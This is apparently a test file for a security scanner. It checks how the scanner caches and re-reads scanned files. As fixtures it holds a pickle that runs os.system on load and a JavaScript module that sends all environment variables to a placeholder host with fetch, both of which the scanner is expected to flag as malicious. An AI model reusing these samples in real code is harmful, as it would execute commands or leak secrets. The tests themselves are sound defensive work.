import {
  copyFileSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import { join } from 'node:path'
import type { ScanReport } from '@shared/scan-report/report'
import Database from 'better-sqlite3'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { type OpenConsole, openConsole } from '../../fixtures/console'
import { runCli } from '../../fixtures/run-cli'
import { smallFile, writeSmallFiles } from '../../fixtures/small-files'

let open: OpenConsole
beforeEach(() => {
  open = openConsole()
})
afterEach(() => open.close())

/** A pickle that would run `echo` when loaded: GLOBAL os.system, one argument, REDUCE. */
const CALL = Buffer.from("cos\nsystem\n(S'echo harmless'\ntR.")

async function scan(more: { useCache?: boolean; hash?: boolean } = {}): Promise<ScanReport> {
  const target = { kind: 'paths' as const, paths: [open.root] }
  const { jobId } = await open.client.scan.start({ target, ...more })
  for await (const event of await open.client.scan.watch({ jobId })) {
    if (event.type === 'failed') throw new Error(event.message)
    if (event.type === 'done')
      return (await open.client.scan.report({ reportId: event.reportId })).report
  }
  throw new Error('the scan did not end')
}
const cached = (report: ScanReport) =>
  report.files.filter((file) => file.cached).map((file) => file.path)
/** All of a report that the cache must not change. */
const found = (report: ScanReport) => report.files.map(({ cached: _, ...file }) => file)
/** Beyond the tick in which a change could hide: the fast path trusts what is older. */
const settle = () => new Promise((resolve) => setTimeout(resolve, 60))
const put = (name: string, bytes: Uint8Array) => writeFileSync(join(open.root, name), bytes)

describe('the cache of scanned files', () => {
  test('answers a second scan wholly, with the same report', async () => {
    writeSmallFiles(join(open.root, 'parts'), 60)
    put('a.pkl', CALL)
    await settle()
    const first = await scan()
    const second = await scan()
    expect([cached(first).length, cached(second).length]).toEqual([0, 61])
    expect(found(second)).toEqual(found(first))
    const { rows } = await open.client.scan.history({})
    expect(rows.map((row) => row.cacheHits).sort((a, b) => a - b)).toEqual([0, 61])
  })
  test('knows a file by its content when it was moved, copied or touched', async () => {
    mkdirSync(join(open.root, 'v2'))
    for (const name of ['copied.pkl', 'moved.pkl', 'touched.pkl'])
      put(name, smallFile('pkl', name.length))
    await settle()
    await scan()
    copyFileSync(join(open.root, 'copied.pkl'), join(open.root, 'v2/copied.pkl'))
    renameSync(join(open.root, 'moved.pkl'), join(open.root, 'v2/moved.pkl'))
    utimesSync(join(open.root, 'touched.pkl'), new Date(), new Date())
    expect(cached(await scan())).toEqual([
      'copied.pkl',
      'touched.pkl',
      'v2/copied.pkl',
      'v2/moved.pkl',
    ])
  })
  test('reads a file again whose bytes changed, even in size and modification time alike', async () => {
    const path = join(open.root, 'a.txt')
    const past = new Date('2020-01-01')
    put('a.txt', Buffer.from('harmless text that is as long as the call'))
    utimesSync(path, past, past)
    await settle()
    await scan()
    const bytes = Buffer.alloc(readFileSync(path).length, ' ')
    CALL.copy(bytes)
    writeFileSync(path, bytes)
    utimesSync(path, past, past)
    const report = await scan()
    expect([cached(report), report.summary.verdict]).toEqual([[], 'malicious'])
  })
  test('reads a file again under a name that says something else', async () => {
    put('notes.txt', Buffer.from('import os\n'))
    await settle()
    await scan()
    renameSync(join(open.root, 'notes.txt'), join(open.root, 'notes.py'))
    expect((await scan()).files[0]).toMatchObject({ cached: false, format: 'python' })
  })
  test('holds for a script as long as the modules it imports are as they were', async () => {
    const text = (source: string) => Buffer.from(source)
    const honest = text('export const send = (all) => console.log(Object.keys(all).length)\n')
    for (const folder of ['one', 'two']) {
      mkdirSync(join(open.root, folder))
      put(`${folder}/index.js`, text("import { send } from './lib'\nsend(process.env)\n"))
      put(`${folder}/lib.js`, honest)
    }
    await settle()
    await scan()
    expect(cached(await scan())).toHaveLength(4)

    const thief =
      "export const send = (all) => fetch('https://a.example', { body: JSON.stringify(all) })"
    put('two/lib.js', text(thief))
    await settle()
    const report = await scan()
    expect(cached(report)).toEqual(['one/index.js', 'one/lib.js'])
    expect(report.summary.verdict).toBe('malicious')
    expect(cached(await scan())).toHaveLength(4)

    rmSync(join(open.root, 'two/lib.js'))
    expect(cached(await scan())).toEqual(['one/index.js', 'one/lib.js'])
  })
  test('keeps what was found and judges it again: an ignored rule needs no reading', async () => {
    put('a.pkl', CALL)
    await settle()
    const [finding] = (await scan()).files[0]?.findings ?? []
    await open.client.policies.save({
      name: 'lenient',
      profile: 'balanced',
      ignores: [{ rule: finding?.ruleId, reason: 'for a test' }],
    })
    await open.client.policies.activate({ name: 'lenient' })
    const file = (await scan()).files[0]
    expect([file?.cached, file?.ignored?.length]).toEqual([true, 1])
  })
  test('is neither read nor filled where a scan asks for that, and read only without hashes', async () => {
    put('a.pkl', CALL)
    await settle()
    await scan({ useCache: false })
    await scan({ hash: false })
    expect((await open.client.scan.cache()).entries).toBe(0)
    await scan()
    expect(cached(await scan({ hash: false }))).toEqual(['a.pkl'])
  })
  test('tells what it holds and how often it helped, and forgets all of it', async () => {
    writeSmallFiles(join(open.root, 'parts'), 20)
    await settle()
    await scan()
    await scan()
    const state = await open.client.scan.cache()
    expect(state).toMatchObject({ entries: 20, hits: 20, misses: 20, limitBytes: 256 * 1024 ** 2 })
    expect(state.bytes).toBeGreaterThan(20 * 1000)
    expect(await open.client.scan.clearCache()).toMatchObject({ entries: 0, hits: 0, misses: 0 })
    expect(cached(await scan())).toEqual([])
  })
  test('that is damaged is replaced, and the scan does not notice', async () => {
    put('a.pkl', CALL)
    await settle()
    await scan()
    open.console.cache.close()
    const file = join(open.folder, 'data/cache.db')
    for (const ending of ['-wal', '-shm']) rmSync(file + ending, { force: true })
    writeFileSync(file, 'this is no database'.repeat(1000))
    expect(cached(await scan())).toEqual([])
    expect(cached(await scan())).toEqual(['a.pkl'])
  })
  test('of another version is replaced', async () => {
    put('a.pkl', CALL)
    await settle()
    await scan()
    open.console.cache.close()
    const other = new Database(join(open.folder, 'data/cache.db'))
    other.pragma('user_version = 999')
    other.close()
    expect(cached(await scan())).toEqual([])
  })
  test('is shared by the console and the command line, which leaves it out where asked to', async () => {
    put('a.pkl', CALL)
    await settle()
    await scan()
    const flags = ['--format', 'json', '--no-save', '--data-dir', join(open.folder, 'data')]
    const run = (...more: string[]) =>
      JSON.parse(runCli(['scan', open.root, ...flags, ...more]).stdout) as ScanReport
    expect([cached(run()), cached(run('--no-cache'))]).toEqual([['a.pkl'], []])
  })
  test('is off at a limit of nothing', async () => {
    await open.close()
    open = openConsole({}, { 'scan.cache-megabytes': '0' })
    put('a.pkl', CALL)
    await settle()
    await scan()
    expect(cached(await scan())).toEqual([])
  })
  test('stays within its limit, and forgets what was used longest ago', async () => {
    await open.close()
    open = openConsole({}, { 'scan.cache-megabytes': '1' })
    writeSmallFiles(join(open.root, 'parts'), 1200)
    await settle()
    await scan()
    const { bytes, entries } = await open.client.scan.cache()
    expect(bytes).toBeLessThan(1.5 * 1024 ** 2)
    expect(entries).toBeLessThan(1200)
    expect(entries).toBeGreaterThan(50)
  })
})
